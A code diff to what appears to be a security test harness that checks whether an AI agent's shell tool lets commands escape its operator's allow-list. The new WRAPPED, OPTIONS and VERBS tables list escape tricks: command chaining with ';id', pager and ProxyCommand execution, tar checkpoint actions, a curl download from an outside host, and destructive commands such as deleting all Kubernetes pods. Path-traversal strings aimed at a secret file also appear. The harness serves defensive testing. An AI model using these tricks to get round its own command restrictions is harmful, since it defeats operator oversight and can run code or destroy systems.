@@ -7,7 +7,7 @@ import hashlib
 import os
 import signal
 import tempfile
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Iterator, Sequence
 from dataclasses import replace
 from functools import partial
 from pathlib import Path
@@ -49,13 +49,21 @@ WAYS_OUT: Final = (
     "inside/folder/secret.txt", "inside/./../outside/secret.txt", "{root}/outside/secret.txt",
     "/proc/self/cwd/outside/secret.txt", "/proc/self/root{root}/outside/secret.txt",
 )  # fmt: skip
-TRICKS: Final[Sequence[Callable[[str], tuple[str, ...]]]] = (
-    lambda program: ("sh", "-c", program), lambda program: ("env", program), lambda program: ("xargs", program),
-    lambda program: (f"/tmp/{program}",), lambda program: (f"./{program}",), lambda program: (f"{program};id",),
-    lambda program: (program, "-exec", "id", ";"), lambda program: (program, "-c", "core.pager=id", "log"),
-    lambda program: (program, "--checkpoint-action=exec=id"), lambda program: (program, "-o", "ProxyCommand=id"),
-    lambda program: (program, "--output=/etc/cron.d/x"), lambda program: (program, "delete", "all"),
-)  # fmt: skip
+WRAPPED: Final = ("sh -c {0}", "env {0}", "xargs {0}", "/tmp/{0}", "./{0}", "{0};id", "{0}\nid")  # for any program
+OPTIONS: Final = {  # by program: what runs another one, or writes, in whatever way it is called
+    "awk": ("awk BEGIN{system('id')}",), "curl": ("curl -o /tmp/x http://theirs.example.net",),
+    "find": ("find . -exec id ;", "find . -delete", "find . -fprint /tmp/x"), "less": ("less +!id x",),
+    "git": ("git -c core.pager=id log", "git --exec-path=/tmp log", "git log --output=/tmp/x", "git grep -Oid x"),
+    "kubectl": ("kubectl --kubeconfig=/tmp/x get pods", "kubectl get pods --kubeconfig=/tmp/x"),
+    "man": ("man -P id ls",), "rsync": ("rsync -e id a b",), "sed": ("sed -i s/a/b/ f", "sed 1eid f"),
+    "sort": ("sort --compress-program=id x", "sort -o /tmp/x y"), "ssh": ("ssh -oProxyCommand=id x",),
+    "tar": ("tar cf /tmp/x --checkpoint=1 --checkpoint-action=exec=id .",), "date": ("date -s 2000-01-01",),
+}  # fmt: skip
+VERBS: Final = {  # by program: what it does when it is told to; where the operator says so themselves, no trick
+    "docker": ("docker run x", "docker exec x sh"), "git": ("git push", "git checkout ."),
+    "ip": ("ip link set eth0 down",), "journalctl": ("journalctl --vacuum-size=1",),
+    "kubectl": ("kubectl delete pods --all", "kubectl exec x -- sh"), "systemctl": ("systemctl stop x",),
+}  # fmt: skip
 IDLE: Final = "no tool did anything in a scratch copy of the folders: nothing was shown"
 SECRET_WORDS: Final = "top secret"
 
@@ -184,22 +192,32 @@ def _outside(root: Path) -> dict[str, str]:
 async def commands(arena: Arena) -> Findings:
     """Commands that would run another program, against the list of this manifest."""
     shells = [spec for spec in arena.tools if "command" in spec.types.values()]
-    allow = [entry.split() for t in arena.manifest.tools if isinstance(t, BuiltinTool) for entry in t.allow]
+    allow = [
+        entry.removesuffix(" ...").split()
+        for t in arena.manifest.tools
+        if isinstance(t, BuiltinTool)
+        for entry in t.allow
+    ]
     for spec in shells:
         name = next(name for name, kind in spec.types.items() if kind == "command")
-        for program in dict.fromkeys(words[0] for words in allow):
-            for trick in (t for t in (make(program) for make in TRICKS) if not _spelled(t, allow)):
-                trial = await arena.run(f"Run {said({'': list(trick)})}", call(spec, {name: list(trick)}))
-                escaped = bool(trial.reached(spec.name))
-                yield trial.verdict(spec.name, escaped=escaped, target=" ".join(trick), todo="write a narrower allow")
+        for trick in _tricks(allow):
+            trial = await arena.run(f"Run {said({'': trick})}", call(spec, {name: trick}))
+            escaped = bool(trial.reached(spec.name))
+            yield trial.verdict(spec.name, escaped=escaped, target=" ".join(trick), todo="write a narrower allow")
     if not shells:
         for finding in await absent(arena, "shell.run", "python.run"):
             yield finding
 
 
-def _spelled(trick: Sequence[str], allow: Sequence[Sequence[str]]) -> bool:
-    """The operator's own words are no trick."""
-    return any(list(trick[: len(words)]) == list(words) and len(words) > 1 for words in allow)
+def _tricks(allow: Sequence[Sequence[str]]) -> Iterator[list[str]]:
+    """What could go wrong with each of the programs."""
+    for program in dict.fromkeys(words[0] for words in allow):
+        yield from (trick.format(program).split(" ") for trick in WRAPPED)
+        yield from (trick.split(" ") for trick in OPTIONS.get(program, ()))
+        for trick in VERBS.get(program, ()):
+            words = trick.split(" ")
+            if not any(len(spelled) > 1 and words[: len(spelled)] == list(spelled) for spelled in allow):
+                yield words
 
 
 async def ways_out(arena: Arena) -> Findings:
